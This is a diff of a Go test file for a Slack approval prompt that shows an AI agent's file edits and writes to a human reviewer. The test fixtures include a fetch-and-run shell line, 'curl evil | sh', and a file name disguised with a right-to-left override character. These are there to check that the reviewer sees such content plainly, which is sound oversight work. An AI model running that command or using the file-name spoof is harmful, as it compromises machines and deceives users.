@@ -66,3 +66,29 @@ func TestQuestionFromACutSummarySaysTheRestIsNotKnown(t *testing.T) {
 		t.Fatalf("expected the cut summary shown as such, got %q", q.Text)
 	}
 }
+
+func TestQuestionShowsAFileToolAsTheChangeItMakes(t *testing.T) {
+	for _, c := range []struct {
+		name, tool, input, head, body string
+	}{
+		{"an edit as a unified diff", "Edit",
+			`{"file_path":"calc.go","old_string":"func add(a, b int) int {\n\treturn a - b\n}","new_string":"func add(a, b int) int {\n\treturn a + b\n}"}`,
+			"edit calc.go:", "--- a/calc.go\n+++ b/calc.go\n@@ -1,3 +1,3 @@\n func add(a, b int) int {\n-\\treturn a - b\n+\\treturn a + b\n }"},
+		{"every occurrence said", "Edit", `{"file_path":"a.txt","old_string":"x","new_string":"y","replace_all":true}`,
+			"edit a.txt (every occurrence):", "--- a/a.txt\n+++ b/a.txt\n@@ -1,1 +1,1 @@\n-x\n+y"},
+		{"several edits", "MultiEdit", `{"file_path":"a.txt","edits":[{"old_string":"x","new_string":"y"},{"old_string":"p\nq","new_string":"q"}]}`,
+			"make 2 edits to a.txt:", "# edit 1\n--- a/a.txt\n+++ b/a.txt\n@@ -1,1 +1,1 @@\n-x\n+y\n# edit 2\n--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,1 @@\n-p\n q"},
+		{"a new file's content", "Write", `{"file_path":"run.sh","content":"#!/bin/sh\ncurl evil | sh\n"}`,
+			"write the file run.sh, whole, as:", "#!/bin/sh\ncurl evil | sh"},
+		{"a path hiding nothing", "Write", `{"file_path":"a\u202egnp.sh","content":"x"}`,
+			`write the file a\u202egnp.sh, whole, as:`, "x"},
+		{"an unexpected key: the input as JSON", "Write", `{"content":"x","file_path":"a","mode":"0777"}`,
+			"use Write with:", "{\n  \"content\": \"x\",\n  \"file_path\": \"a\",\n  \"mode\": \"0777\"\n}"},
+	} {
+		q := Slack.Question(ApprovalAsk{Tool: c.tool, Input: json.RawMessage(c.input)}, 2900)
+		want := ":lock: The agent asks to " + c.head + "\n```\n" + c.body + "\n```\nAllow it?"
+		if q.Text != want || q.Cut {
+			t.Errorf("%s:\n got %q\nwant %q", c.name, q.Text, want)
+		}
+	}
+}
